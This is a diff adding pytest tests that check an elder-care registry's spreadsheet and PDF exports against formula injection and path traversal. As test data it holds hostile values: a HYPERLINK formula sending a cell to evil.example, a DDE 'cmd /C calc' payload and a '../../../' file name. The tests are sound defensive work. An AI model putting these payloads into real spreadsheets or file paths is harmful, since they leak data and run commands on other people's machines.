@@ -170,3 +170,74 @@ def test_register_and_visit_lists_and_bundle(session: Session, tmp_path: Path) -
     assert forms.sheetnames == ["附件2登记表", "附件3探访记录"]
     visits = list(forms["附件3探访记录"].iter_rows(min_row=4, max_row=6, values_only=True))
     assert [(v[0], v[2]) for v in visits] == [(1, "上门探访"), (2, "上门探访"), (3, "电话问候")]
+
+
+@pytest.mark.parametrize("export", ["ledger", "register", "visits", "bundle"])
+def test_imported_text_that_looks_like_a_formula_is_written_as_text(
+    session: Session, tmp_path: Path, export: str
+) -> None:
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+        "address": "+1+cmd|' /C calc'!A0",
+        "illness": "@SUM(1+1)",
+        "income": "-2+3",
+        "tab": "\t=1+1",
+    }
+    elder = add_elder(session, "E9", tier="key")
+    elder.name = hostile["name"]
+    elder.medical_history = hostile["illness"]
+    elder.income_source = hostile["income"]
+    elder.home.address = hostile["address"]
+    elder.ability_notes = hostile["tab"]
+    elder.monthly_income = -5.0  # a number stays a number, even written as text
+    at = utc(2026, 7, 3, 2)
+    record_visit(
+        session,
+        elder,
+        visit_input({"visited_at": at, "method": "上门探访", "visitor_name": "=1+2", "illness_name": "-1x"}),
+        now=at,
+    )
+    session.flush()
+    out = tmp_path / "out"
+    start, end = half_bounds("2026H2", TZ)
+    if export == "ledger":
+        export_ledger(session, out / "x.xlsx", half="2026H2", tz=TZ, header=HEADER)
+    elif export == "register":
+        export_register(session, out / "x.xlsx")
+    elif export == "visits":
+        export_visits(session, out / "x.xlsx", start=start, end=end, tz=TZ)
+    else:
+        export_bundle(session, out, half="2026H2", tz=TZ, header=HEADER)
+    books = sorted(out.rglob("*.xlsx"))
+    assert books
+    seen: set[str] = set()
+    for path in books:
+        for ws in load_workbook(path).worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str):
+                        inert = cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell.value == "-5"
+                        assert inert, (path.name, cell.value)
+                        seen.add(cell.value)
+    # The text is kept, made inert by a leading apostrophe.
+    assert "'" + hostile["name"] in seen
+    if export in ("register", "bundle"):
+        assert "'" + hostile["income"] in seen and "-5" in seen
+
+
+def test_bundle_file_names_stay_inside_the_bundle(session: Session, tmp_path: Path) -> None:
+    # The elder's name goes into the file name; an imported name must not pick the directory.
+    elder = add_elder(session, "E8")
+    elder.name = "../../../逃逸/老人"
+    session.flush()
+    out = tmp_path / "bundle"
+    written = export_bundle(session, out, half="2026H2", tz=TZ, header=HEADER)
+    forms = out / "附件2_附件3"
+    assert sorted(p.name for p in written if p.parent != out) == [
+        "E8_.._.._.._逃逸_老人.pdf",
+        "E8_.._.._.._逃逸_老人.xlsx",
+    ]
+    assert all(p.resolve().parent in (out.resolve(), forms.resolve()) and p.exists() for p in written)
+    escaped = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.startswith("register.db")]
+    assert {p.resolve() for p in escaped} == {p.resolve() for p in written}
